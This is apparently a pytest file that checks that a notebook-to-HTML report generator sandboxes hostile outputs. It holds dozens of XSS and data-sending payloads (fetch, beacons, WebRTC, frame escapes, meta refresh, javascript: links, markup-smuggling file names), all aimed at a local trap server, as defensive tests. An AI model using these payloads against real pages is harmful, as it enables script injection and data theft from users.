"""Outputs that mean harm, opened in Chromium: none reaches the report or another machine."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from browsing import LOOKS, fits, visit
from nb import report
from nb.project import EXECUTED

pytest.importorskip("nbconvert", reason="a dependency of generated projects")
pytest.importorskip("latex2mathml", reason="a dependency of generated projects")

# {0} is the address of a server that must not be asked.
HTML = {
    "fetch": "<script>fetch('{0}/fetch')</script>",
    "image": "<script>new Image().src = '{0}/image'</script>",
    "beacon": "<script>navigator.sendBeacon('{0}/beacon', 'x')</script>",
    "socket": "<script>new WebSocket('{0}/socket'.replace('http', 'ws'))</script>",
    "events": "<script>new EventSource('{0}/events')</script>",
    "module": "<script>import('{0}/module.js')</script>",
    "worker": "<script>const code = new Blob([\"fetch('{0}/worker')\"]);"
    "new Worker(URL.createObjectURL(code))</script>",
    "shared code": "<script>importScripts('{0}/x')</script><script src='{0}/code.js'></script>",
    "form": "<form action='{0}/form'><input></form><script>document.forms[0].submit()</script>",
    "window": "<script>window.open('{0}/window')</script>",
    "elsewhere": "<script>location = '{0}/elsewhere'</script>",
    "shell elsewhere": "<script>parent.location = '{0}/shell'</script>",
    "top elsewhere": "<script>top.location = '{0}/top'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url={0}/refresh'><script>1</script>",
    "still refresh": "<style>b {{}}</style><meta http-equiv=refresh content='0;url={0}/still'>",
    "style": "<style>@import '{0}/style'; b {{ background: url({0}/background) }}</style><b>b</b>",
    "font": "<style>@font-face {{ font-family: f; src: url({0}/font) }}"
    "b {{ font: 1em f }}</style><b>b",
    "preload": "<script>1</script><link rel=preload as=fetch href='{0}/pre'><link rel=prefetch"
    " href='{0}/fetch'>",
    "nested": "<script>document.body.innerHTML = `<ifr` + `ame srcdoc=\"<script>fetch('{0}/nested')"
    '</scr` + `ipt>"></iframe>`</script>',
    "frame": "<script>document.body.innerHTML = '<iframe src={0}/frame></iframe>'</script>",
    "title of the page": "<script>top.document.title = 'taken'</script>",
    "title of the shell": "<script>parent.document.body.innerHTML = 'taken'</script>",
    "message": "<script>top.postMessage({{height: '<img src={0}/m>'}}, '*');"
    "parent.postMessage({{height: 1e9}}, '*')</script>",
    "dialog": "<script>alert(1); confirm(2); print()</script>",
    "storage": "<script>localStorage.x = 1; document.cookie = 'a=b'</script>",
    "out of the frame": "</iframe></main><script>fetch('{0}/out')</script>",
    "out of the text": '"></iframe><script>top.document.title = "taken"</script>',
    "video": "<video src='{0}/video' poster='{0}/poster' autoplay></video>",
    "sound": "<audio><source src='{0}/sound'></audio>",
    "object": "<object data='{0}/object'></object><embed src='{0}/embed'>",
    "base": "<base href='{0}/'><style>b {{}}</style><img src=x.png>",
    "speculation": '<script type=speculationrules>{{"prefetch": [{{"source": "list",'
    ' "urls": ["{0}/speculation"]}}]}}</script><script>1</script>',
    "transport": "<script>new WebTransport('{0}/transport'.replace('http', 'https'))</script>",
    "shared worker": "<script>new SharedWorker('{0}/shared')</script>",
    "service worker": "<script>navigator.serviceWorker.register('{0}/service')</script>",
    "import map": '<script type=importmap>{{"imports": {{"x": "{0}/map.js"}}}}</script>'
    "<script type=module>import 'x'</script>",
    "old request": "<script>const old = new XMLHttpRequest(); old.open('GET', '{0}/old');"
    "old.send()</script>",
    "keepalive": "<script>fetch('{0}/alive', {{keepalive: true, mode: 'no-cors'}})</script>",
    "blob page": "<script>location = URL.createObjectURL(new Blob([\"<img src='{0}/blob'>\"],"
    " {{type: 'text/html'}}))</script>",
    "data page": "<script>location = \"data:text/html,<img src='{0}/data'>\"</script>",
    "written page": "<script>document.open(); document.write(\"<img src='{0}/written'>\");"
    "document.close()</script>",
    "link that clicks": "<a id=way href='{0}/click' target=_top ping='{0}/ping'>x</a>"
    "<script>document.getElementById('way').click()</script>",
    "download": "<a id=down href='{0}/down' download>x</a>"
    "<script>document.getElementById('down').click()</script>",
    "drawing": "<svg><image href='{0}/image'/><use href='{0}/use#x'/><script>"
    "fetch('{0}/svg')</script><foreignObject><img src='{0}/foreign'></foreignObject></svg>",
    "animation": "<svg><a><animate attributeName=href values='javascript:alert(1)'/>"
    "<text>x</text></a></svg><style>b {{}}</style>",
    "shadow": "<div><template shadowrootmode=open><img src='{0}/shadow'><script>1</script>"
    "</template></div>",
    "paint": "<style>b {{ background: image-set('{0}/set' 1x); cursor: url({0}/cursor), auto;"
    " mask: url({0}/mask); filter: url({0}/filter#x); list-style: url({0}/list) }}</style><b>b</b>",
    "set of pictures": "<style>b {{}}</style><picture><source srcset='{0}/srcset'><img></picture>"
    "<input type=image src='{0}/input'><video><track src='{0}/track' default></video>",
    "over the page": "<style>b {{}}</style><div style='position: fixed; inset: 0; z-index: 9'>x",
    "names of the page": "<form id=main name=body><input name=getElementById id=search></form>"
    "<img name=querySelectorAll><a id=documentElement>x</a>",
    "one long word": "<script>document.title = 'x'.repeat(1e6);"
    "document.documentElement.style.height = '1e9px'</script>",
    "report": "<script>new ReportingObserver(() => fetch('{0}/report')).observe()</script>"
    "<meta http-equiv=Content-Security-Policy content='img-src *; report-uri {0}/policy'>"
    "<img src='{0}/policy-image'>",
    "manifest": "<link rel=manifest href='{0}/manifest'><link rel=icon href='{0}/icon'>"
    "<link rel=modulepreload href='{0}/module'><style>b {{}}</style>",
}
FORMULAS = (
    r"\text{<img src=x onerror=alert(1)>}",
    r"\href{javascript:alert(1)}{x}",
    r'\class{a" onclick="alert(1)}{x}',
    r"\text{</math></article><script>alert(1)</script>}",
    r'\style{background:url("ADDRESS/style")}{x}',
    r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
)
PLOTLY = "application/vnd.plotly.v1+json"
WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"


def code(number: int, data: dict[str, Any]) -> dict[str, Any]:
    output = {"output_type": "display_data", "metadata": {}, "data": data}
    return {
        "cell_type": "code",
        "id": f"c{number}",
        "metadata": {},
        "source": "1",
        "execution_count": 1,
        "outputs": [output],
    }


def markdown(number: int, source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": f"m{number}", "metadata": {}, "source": source}


def make_page(root: Path, cells: list[dict[str, Any]], **metadata: Any) -> Path:
    """Write an executed copy and the page of the copy; return the page."""
    copy = root / EXECUTED / "x.ipynb"
    copy.parent.mkdir(parents=True, exist_ok=True)
    content = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
    copy.write_text(json.dumps(content), encoding="utf-8")
    (root / "dvc.yaml").write_text("stages: {}\n", encoding="utf-8")
    return report.make_page(root, copy)


class Trap:
    """A server on this machine that notes whoever asks."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.asked.append(self.path)
                self.send_error(404)

            do_POST = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def trap() -> Iterator[Trap]:
    made = Trap()
    yield made
    made.server.shutdown()
    made.server.server_close()


def check(browser: Any, made: Path, trap: Trap) -> None:
    """Open a page, let every frame run, and look for the harm."""
    with browser.new_context() as context:
        seen = visit(context, made)
        for frame in seen.page.query_selector_all("iframe"):
            frame.scroll_into_view_if_needed()
        seen.page.wait_for_timeout(1500)
        heights = [f.bounding_box()["height"] for f in seen.page.query_selector_all("iframe")]
        assert seen.page.title().startswith("x ·")
        assert seen.page.url == made.resolve().as_uri() and len(context.pages) == 1
        assert max(heights, default=0) <= seen.page.evaluate("innerHeight") + 8
        assert [event for event in seen.events if not event.startswith(("console", "error"))] == []
    assert trap.asked == []


@pytest.mark.slow
def test_hostile_html_asks_no_server_and_touches_no_page(
    browser: Any, tmp_path: Path, trap: Trap
) -> None:
    cells = [
        code(number, {"text/html": html.format(trap.address), "text/plain": name})
        for number, (name, html) in enumerate(HTML.items())
    ]
    check(browser, make_page(tmp_path, cells), trap)


@pytest.mark.slow
def test_the_trap_notes_a_visitor(browser: Any, tmp_path: Path, trap: Trap) -> None:
    """The other tests could not fail if a page without a policy went unnoticed."""
    page = tmp_path / "open.html"
    page.write_text(f"<script>fetch('{trap.address}/open')</script>", encoding="utf-8")
    with browser.new_context() as context:
        visit(context, page).page.wait_for_timeout(500)
    assert trap.asked == ["/open"]


@pytest.mark.slow
def test_hostile_data_of_figures_formulas_and_widgets_stays_data(
    browser: Any, tmp_path: Path, trap: Trap
) -> None:
    image = f"<img src={trap.address}/x onerror=alert(1)>"
    ends = f"</script><script>fetch('{trap.address}/ends')</script>"
    state = {
        "a": {"model_name": "HTMLModel", "state": {"value": image + ends, "description": image}},
        "b": {"model_name": "VBoxModel", "state": {"children": ["IPY_MODEL_b", "IPY_MODEL_a"]}},
    }
    cells = [
        code(1, {PLOTLY: {"data": [], "layout": {"title": {"text": image + ends}}}}),
        code(2, {WIDGET: {"model_id": "b"}, "text/plain": "x"}),
        code(3, {"text/latex": f"$\\text{{{image}}}$ {ends}"}),
        code(4, {"application/json": {image: ends}}),
        code(5, {"application/javascript": f"fetch('{trap.address}/javascript')"}),
        code(6, {f"application/x{image}": "x"}),
        *(markdown(n, f"${t.replace('ADDRESS', trap.address)}$") for n, t in enumerate(FORMULAS)),
        markdown(
            90, f"```mermaid\n{image}{ends}\n```\n\n![a > $\\text{{{image}}}$](x) - [x] {image}"
        ),
    ]
    widgets = {"widgets": {STATE: {"state": state}}}
    made = make_page(tmp_path, cells, **widgets)
    shown = made.read_text(encoding="utf-8")
    assert escape(image, quote=False) in shown and shown.count("<script>") == 1
    check(browser, made, trap)


PEER = (
    "const peer = new RTCPeerConnection({iceServers: [{urls: 'ADDRESS'}]});"
    "peer.createDataChannel('x'); peer.createOffer().then((o) => peer.setLocalDescription(o));"
)
WAYS = {
    "in the frame": f"<script>{PEER}</script>",
    "in a frame within": f'<iframe srcdoc="<script>{PEER}</script>"></iframe><script>1</script>',
    "in a frame that a script makes": "<script>const frame = document.createElement('iframe');"
    f'frame.srcdoc = "<script>{PEER}</scr" + "ipt>";'
    "document.documentElement.append(frame)</script>",
    "in a frame of text": "<script>document.documentElement.insertAdjacentHTML('beforeend',"
    f'`<ifr` + `ame srcdoc="<script>{PEER}</scr` + `ipt>"></iframe>`)</script>',
    "at an address": "<script>const frame = document.createElement('iframe');"
    f"frame.src = `javascript:{PEER}`; document.documentElement.append(frame)</script>",
    "with functions changed": "<script>String.prototype.replace = function () {"
    " return String(this); }; RegExp.prototype.exec = () => null;"
    "document.documentElement.insertAdjacentHTML('beforeend',"
    f'`<ifr` + `ame srcdoc="<script>{PEER}</scr` + `ipt>"></iframe>`)</script>',
    "from an empty frame": "<script>const frame = document.createElement('iframe');"
    "document.documentElement.append(frame); const RTCPeerConnection ="
    f" frame.contentWindow.RTCPeerConnection; {PEER}</script>",
}


@pytest.mark.slow
@pytest.mark.parametrize("way", WAYS)
def test_no_peer_connection_is_made(browser: Any, tmp_path: Path, trap: Trap, way: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.settimeout(0.1)
        html = WAYS[way].replace("ADDRESS", f"stun:127.0.0.1:{udp.getsockname()[1]}")
        check(browser, make_page(tmp_path, [code(1, {"text/html": html})]), trap)
        with pytest.raises(TimeoutError):
            udp.recvfrom(100)


PICTURE = {
    "image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
    "awAAAABJRU5ErkJggg=="
}
NAMES = (
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)<script>",
    "{{ 7 * 7 }} {% raw %}",
    "a#b?c=d&amp;e%2e%2e",
    " spaces  and\ttab ",
    "line\nbreak",
    "right\u202eto left",
    "javascript:alert(1)",
    "é ß 漢字 🦑",
    "-rf",
    "x" * 200,
)


@pytest.mark.slow
def test_hostile_names_of_files_are_names(browser: Any, tmp_path: Path, trap: Trap) -> None:
    """Each copy has a page that the index leads to, and no name is more than a text."""
    for name in NAMES:
        content = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [code(1, PICTURE)]}
        copy = tmp_path / EXECUTED / f"{name.replace('/', chr(0x2215))}.ipynb"
        copy.parent.mkdir(parents=True, exist_ok=True)
        copy.write_text(json.dumps(content), encoding="utf-8")
    (tmp_path / "dvc.yaml").write_text("stages: {}\n", encoding="utf-8")
    index = report.build(tmp_path)
    assert index and "<bdi>right\u202eto left</bdi></a></li>" in index.read_text("utf-8")
    with browser.new_context(**LOOKS["phone"]) as context:
        seen = visit(context, index)
        address = "(links) => links.map((link) => link.href)"
        links = seen.page.locator("a[href*='notebooks/']").evaluate_all(address)
        pages = {link.partition("#")[0] for link in links if ".html" in link}
        assert len(pages) == len(NAMES)
        for page in pages:
            shown = visit(context, page)
            assert shown.page.locator("main img").evaluate("(image) => image.naturalWidth") == 1
            assert shown.events == [] and fits(shown.page)
        assert seen.events == [] and fits(seen.page)
